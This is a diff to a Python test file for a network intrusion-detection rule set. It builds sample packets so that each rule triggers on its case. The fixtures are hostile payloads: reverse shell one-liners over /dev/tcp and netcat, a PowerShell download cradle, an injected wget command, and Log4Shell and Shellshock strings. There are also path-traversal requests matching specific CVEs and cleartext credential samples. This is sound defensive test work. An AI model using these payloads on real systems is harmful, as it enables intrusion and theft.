@@ -17,24 +17,37 @@ def web(line, headers=b"", body=b""):
     return line + b" HTTP/1.1\r\nHost: h.example\r\n" + headers + b"\r\n" + body
 
 
+def looks(kind, payload):
+    return (OUT, "udp", 53, 0, payload) if kind == "dns" else (OUT, "tcp", 443, 24, payload)
+
+
 CASES = {
-    "LOOK-ZONE": (OUT, "udp", 53, 0, query("a.tk")), "LOOK-SELF": (OUT, "udp", 53, 0, query("api.ipify.org")), "IN-BASH": (IN, "tcp", 80, 24, b"x: () { :; }; ping"), "IN-JNDI": (IN, "tcp", 80, 24, b"${${lower:j}ndi:ldap${jndi:ldap://x}"),
-    "IN-LOADER": (IN, "tcp", 80, 24, b"class.module.classLoader.URLs=1"), "IN-SMB1": (IN, "tcp", 445, 24, b"\0\0\0\x54\xffSMB\x72"), "IN-FILES": (IN, "tcp", 80, 24, web(b"GET /.env")), "IN-COMMAND": (IN, "tcp", 80, 24, web(b"GET /a?x=;wget%20http://x")),
-    "IN-DEVICES": (IN, "tcp", 80, 24, web(b"GET /HNAP1/")), "RUN-SHELL": (IN, "tcp", 9, 24, b"bash -i >& /dev/tcp/1.2.3.4/99 0>&1"), "RUN-PYTHON": (IN, "tcp", 9, 24, b"import socket,subprocess,os"), "RUN-POWER": (IN, "tcp", 9, 24, b"IEX (x).DownloadString('u')"),
-    "RUN-BANNER": (OUT, "tcp", 9, 24, b"Microsoft Windows [Version 10.0.1]"), "RUN-ROOT": (OUT, "tcp", 9, 24, b"uid=0(root) gid=0(root)"), "PASS-FTP": (OUT, "tcp", 21, 24, b"PASS hunter2\r\n"), "PASS-TELNET": (OUT, "tcp", 23, 2, b""),
-    "PASS-BASIC": (OUT, "tcp", 80, 24, web(b"GET /", b"Authorization: Basic YWJjZA==\r\n")), "PASS-FORM": (OUT, "tcp", 80, 24, web(b"POST /login", b"", b"user=a&password=b")), "PASS-MAIL": (OUT, "tcp", 143, 24, b"a1 LOGIN me secret\r\n"),
-    "PASS-NTLM": (OUT, "tcp", 80, 24, web(b"GET /", b"Authorization: NTLM TlRMTVNTUAAB\r\n")), "PASS-SHARE": (OUT, "tcp", 445, 2, b""), "MOVE-SHARE": (IN, "tcp", 445, 2, b""), "MOVE-DESKTOP": (IN, "tcp", 3389, 2, b""), "MOVE-SCREEN": (IN, "tcp", 5900, 2, b""),
-    "MOVE-MANAGE": (IN, "tcp", 5985, 2, b""), "MOVE-SSH": (IN, "tcp", 22, 2, b""), "MOVE-DATA": (IN, "tcp", 6379, 2, b""), "MOVE-SERVICE": (IN, "tcp", 445, 24, b"xxPSEXESVCxx"), "CALL-CHAT": (OUT, "tcp", 6667, 24, b"NICK bob\r\n"),
-    "CALL-BROWSER": (OUT, "tcp", 80, 24, web(b"GET /", b"User-Agent: Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)\r\n")), "CALL-ONION": (OUT, "udp", 53, 0, query("abc.onion")), "CALL-DYNAMIC": (OUT, "udp", 53, 0, query("me.duckdns.org")), "CALL-TUNNEL": (OUT, "tcp", 443, 24, greeting("x.ngrok.io")),
-    "CALL-DROP": (OUT, "tcp", 443, 24, greeting("pastebin.com")), "CALL-BOT": (OUT, "tcp", 443, 24, greeting("api.telegram.org")), "CALL-MINER": (OUT, "tcp", 3333, 24, b'{"method": "mining.subscribe"}'), "CALL-POOL": (OUT, "udp", 53, 0, query("eu.nanopool.org")),
-    "CALL-FETCH": (OUT, "tcp", 80, 24, b"GET /x.exe HTTP/1.1\r\nHost: 8.8.4.4\r\n\r\n"), "CALL-TOOL": (OUT, "tcp", 80, 24, web(b"GET /", b"User-Agent: CertUtil URL Agent\r\n")), "CALL-SSH": (OUT, "tcp", 443, 24, b"SSH-2.0-x\r\n"), "OUT-NULLS": (OUT, "udp", 53, 0, query("x.y", 10)),
-    "HARM-CLOCK": (OUT, "udp", 123, 0, b"\x17\0\3\x2a\0"), "HARM-CACHE": (OUT, "udp", 11211, 0, bytes(8) + b"stats\r\n"), "OLD-SSH": (OUT, "tcp", 22, 24, b"SSH-1.5-old\r\n"), "OLD-TFTP": (OUT, "udp", 69, 0, b"\0\1boot\0octet\0"),
+    **{f"OPEN-IN-{n}": (IN, "tcp", ports[0], 2, b"") for n, (ports, *_) in builtin.EXPOSED.items()},
+    **{f"OPEN-OUT-{n}": (OUT, "tcp", ports[0], 2, b"") for n, (ports, *_) in builtin.LEAVING.items()},
+    **{f"NAME-{n}": looks("tls", greeting("x." + d[0])) if where == "greeting" else looks("dns", query("x." + d[0])) for n, (d, _, _, where) in builtin.NAMED.items()},
+    "NAME-cheap-zone": looks("dns", query("a.tk")), "NAME-null-record": looks("dns", query("x.y", 10)),
+    "CVE-2017-9841": (IN, "tcp", 80, 24, web(b"POST /vendor/phpunit/phpunit/phpunit/src/Util/PHP/eval-stdin.php")), "CVE-2018-10561": (IN, "tcp", 80, 24, web(b"POST /GponForm/diag_Form?images/")),
+    "CVE-2018-13379": (IN, "tcp", 80, 24, web(b"GET /remote/fgt_lang?lang=/../../../..//dev/cmdb/sslvpn_websession")), "CVE-2019-11510": (IN, "tcp", 80, 24, web(b"GET /dana-na/../dana/html5acc/guacamole/../../../etc/hosts")),
+    "CVE-2019-19781": (IN, "tcp", 80, 24, web(b"GET /vpn/../vpns/cfg/smb.conf")), "CVE-2020-5902": (IN, "tcp", 80, 24, web(b"GET /tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp")), "CVE-2021-3129": (IN, "tcp", 80, 24, web(b"POST /_ignition/execute-solution")),
+    "CVE-2021-41773": (IN, "tcp", 80, 24, web(b"GET /cgi-bin/.%2e/.%2e/bin/sh")), "CVE-2022-1388": (IN, "tcp", 80, 24, web(b"POST /mgmt/tm/util/bash")), "CVE-2022-26134": (IN, "tcp", 80, 24, web(b"GET /%24%7B@java.lang.Runtime@getRuntime%7D/")),
+    "CVE-2014-6271": (IN, "tcp", 80, 24, b"x: () { :; }; ping"), "CVE-2021-44228": (IN, "tcp", 80, 24, b"x ${${lower:j}ndi:ldap://x}"), "CVE-2022-22965": (IN, "tcp", 80, 24, b"class.module.classLoader.URLs=1"),
+    "HEADER-basic-login": (OUT, "tcp", 80, 24, web(b"GET /", b"Authorization: Basic YWJjZA==\r\n")), "HEADER-house-login": (OUT, "tcp", 80, 24, web(b"GET /", b"Authorization: NTLM TlRMTVNTUAAB\r\n")),
+    "HEADER-scripted-fetch": (OUT, "tcp", 80, 24, web(b"GET /", b"User-Agent: CertUtil URL Agent\r\n")), "HEADER-retired-browser": (OUT, "tcp", 80, 24, web(b"GET /", b"User-Agent: Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)\r\n")),
+    "REQUEST-secret-file": (IN, "tcp", 80, 24, web(b"GET /.env")), "REQUEST-command": (IN, "tcp", 80, 24, web(b"GET /a?x=;wget%20http://x")), "REQUEST-password": (OUT, "tcp", 80, 24, web(b"POST /login", b"", b"user=a&password=b")),
+    "REQUEST-program-by-number": (OUT, "tcp", 80, 24, b"GET /x.exe HTTP/1.1\r\nHost: 8.8.4.4\r\n\r\n"),
+    "LOGIN-ftp": (OUT, "tcp", 21, 24, b"PASS hunter2\r\n"), "LOGIN-imap": (OUT, "tcp", 143, 24, b"a1 LOGIN me secret\r\n"), "LOGIN-pop3": (OUT, "tcp", 110, 24, b"PASS secret\r\n"), "LOGIN-smtp": (OUT, "tcp", 587, 24, b"AUTH PLAIN AGFiYwBkZWY=\r\n"),
+    "SHELL-bash-socket": (IN, "tcp", 9, 24, b"bash -i >& /dev/tcp/1.2.3.4/99 0>&1"), "SHELL-netcat-exec": (IN, "tcp", 9, 24, b"nc 1.2.3.4 99 -e /bin/sh"), "SHELL-python-socket": (IN, "tcp", 9, 24, b"import socket,subprocess,os"),
+    "SHELL-powershell-fetch": (IN, "tcp", 9, 24, b"IEX (x).DownloadString('u')"), "SHELL-powershell-encoded": (IN, "tcp", 9, 24, b"powershell -nop -enc " + b"QUJD" * 12), "SHELL-cmd-prompt": (OUT, "tcp", 9, 24, b"Microsoft Windows [Version 10.0.1]"),
+    "SHELL-id-of-root": (OUT, "tcp", 9, 24, b"uid=0(root) gid=0(root)"), "SHELL-psexec": (IN, "tcp", 445, 24, b"xxP\0S\0E\0X\0E\0S\0V\0C\0xx"),
+    "SPEAKS-irc": (OUT, "tcp", 6667, 24, b"NICK bob\r\n"), "SPEAKS-memcached-reflection": (OUT, "udp", 11211, 0, bytes(8) + b"stats\r\n"), "SPEAKS-ntp-monlist": (OUT, "udp", 123, 0, b"\x17\0\3\x2a\0"), "SPEAKS-smb1": (IN, "tcp", 445, 24, b"\0\0\0\x54\xffSMB\x72"),
+    "SPEAKS-ssh1": (OUT, "tcp", 22, 24, b"SSH-1.5-old\r\n"), "SPEAKS-ssh-elsewhere": (OUT, "tcp", 443, 24, b"SSH-2.0-x\r\n"), "SPEAKS-stratum": (OUT, "tcp", 3333, 24, b'{"method": "mining.subscribe"}'), "SPEAKS-tftp": (OUT, "udp", 69, 0, b"\0\1boot\0octet\0"),
+    "ANSWER-program": (IN, "tcp", 50_000, 24, b"HTTP/1.1 200 OK\r\n\r\nMZ" + bytes(70) + b"PE\0\0"),
 }
 QUIET = [(OUT, "tcp", 443, 24, greeting("example.org")), (OUT, "udp", 53, 0, query("www.example.org")), (OUT, "tcp", 80, 24, web(b"GET /index.html")), (OUT, "tcp", 443, 16, b""), (OUT, "tcp", 22, 24, b"SSH-2.0-ok\r\n")]
 
 
 def packets(spark, cases):
-    rows = [(i, i, ends[0], ends[1], protocol, 50_000, port, flags, bytearray(payload), ends[2]) for i, (ends, protocol, port, flags, payload) in enumerate(cases)]
+    rows = [(i, i, ends[0], ends[1], protocol, 80 if payload.startswith(b"HTTP/") else 50_000, port, flags, bytearray(payload), ends[2]) for i, (ends, protocol, port, flags, payload) in enumerate(cases)]
     return dissect.dissected(spark.createDataFrame(rows, COLUMNS))
 
 
@@ -46,12 +59,13 @@ def test_every_rule_fires_on_its_case_and_none_on_quiet_traffic(spark):
     for r in rules.hits(p, [g for g in good if not g.threshold]).collect():
         fired.setdefault(r.seq, set()).add(r.rule_id)
     assert {name for i, name in enumerate(CASES) if name not in fired.get(i, ())} == set()
+    assert {r["id"] for r in builtin.RULES if "threshold" not in r} == set(CASES)
     assert [fired[i] for i in range(len(CASES), len(CASES) + len(QUIET)) if i in fired] == []
 
 
 @pytest.mark.parametrize(("name", "case", "n"), [
-    ("LOOK-XMAS", (IN, "tcp", 80, 41, b""), 3), ("LOOK-NULL", (IN, "tcp", 80, 0, b""), 5), ("CALL-NAMES", (OUT, "udp", 5355, 0, b"q"), 40), ("CALL-NAMELESS", (OUT, "tcp", 443, 24, greeting("")), 6), ("CALL-PING", (OUT, "icmp", None, 0, b"x" * 300), 20),
-    ("OUT-TEXTS", (OUT, "udp", 53, 0, query("a.b", 16)), 25), ("HARM-ANY", (OUT, "udp", 53, 0, query("a.b", 255)), 10), ("OLD-SNMP", (OUT, "udp", 161, 0, b"0\x04\x06public"), 5),
+    ("RATE-christmas-packets", (IN, "tcp", 80, 41, b""), 3), ("RATE-empty-packets", (IN, "tcp", 80, 0, b""), 5), ("RATE-open-questions", (OUT, "udp", 5355, 0, b"q"), 40), ("RATE-nameless-greetings", (OUT, "tcp", 443, 24, greeting("")), 6), ("RATE-big-pings", (OUT, "icmp", None, 0, b"x" * 300), 20),
+    ("RATE-text-lookups", (OUT, "udp", 53, 0, query("a.b", 16)), 25), ("RATE-any-lookups", (OUT, "udp", 53, 0, query("a.b", 255)), 10), ("RATE-default-community", (OUT, "udp", 161, 0, b"0\x04\x06public"), 5),
 ])
 def test_rules_with_a_threshold(spark, name, case, n):
     p = packets(spark, [case] * n)
